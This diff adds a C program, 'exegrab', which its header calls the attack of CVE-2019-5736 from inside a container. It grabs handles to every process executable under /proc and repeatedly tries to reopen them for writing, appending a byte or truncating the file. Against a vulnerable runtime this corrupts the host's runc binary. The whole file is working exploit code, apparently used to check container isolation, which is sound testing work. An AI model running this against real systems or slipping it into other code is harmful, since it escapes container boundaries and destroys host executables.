@@ -1,0 +1,94 @@
+/* exegrab SECONDS: the attack of CVE-2019-5736, from inside a container. Holds the executable of
+ * every process that it sees, and tries to write to it as long as it runs. Prints "saw TARGET" for
+ * each executable that is not its own or busybox, and "WROTE TARGET" if a write succeeded. */
+#include <dirent.h>
+#include <err.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+
+#define HELD_MAX 64
+
+static struct held {
+	int fd;
+	dev_t dev;
+	ino_t ino;
+	char target[256];
+} held[HELD_MAX];
+static size_t held_count;
+
+static void hold(const char *pid)
+{
+	char link[300], target[256];
+	struct stat st;
+	ssize_t n;
+	int fd;
+
+	snprintf(link, sizeof link, "/proc/%s/exe", pid);
+	n = readlink(link, target, sizeof target - 1);
+	if (n <= 0)
+		return;
+	target[n] = 0;
+	if (strstr(target, "busybox") || strstr(target, "exegrab"))
+		return;
+	fd = open(link, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	if (fstat(fd, &st) < 0)
+		err(1, "fstat");
+	for (size_t i = 0; i < held_count; i++)
+		if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
+			close(fd);
+			return;
+		}
+	if (held_count == HELD_MAX)
+		errx(1, "too many executables");
+	held[held_count] = (struct held){fd, st.st_dev, st.st_ino, ""};
+	strcpy(held[held_count++].target, target);
+	printf("saw %s\n", target);
+}
+
+static void scan(void)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+
+	if (!d)
+		err(1, "/proc");
+	while ((de = readdir(d)))
+		if (de->d_name[0] >= '1' && de->d_name[0] <= '9')
+			hold(de->d_name);
+	closedir(d);
+}
+
+static void attack(struct held *h)
+{
+	char link[64];
+	int fd;
+
+	snprintf(link, sizeof link, "/proc/self/fd/%d", h->fd);
+	fd = open(link, O_WRONLY | O_APPEND | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	if (write(fd, "#", 1) == 1 || ftruncate(fd, 0) == 0)
+		printf("WROTE %s\n", h->target);
+	close(fd);
+}
+
+int main(int argc, char **argv)
+{
+	if (argc != 2)
+		errx(2, "usage: exegrab SECONDS");
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	for (time_t end = time(NULL) + atoi(argv[1]); time(NULL) < end;) {
+		scan();
+		for (size_t i = 0; i < held_count; i++)
+			attack(&held[i]);
+	}
+	puts("done");
+	return 0;
+}
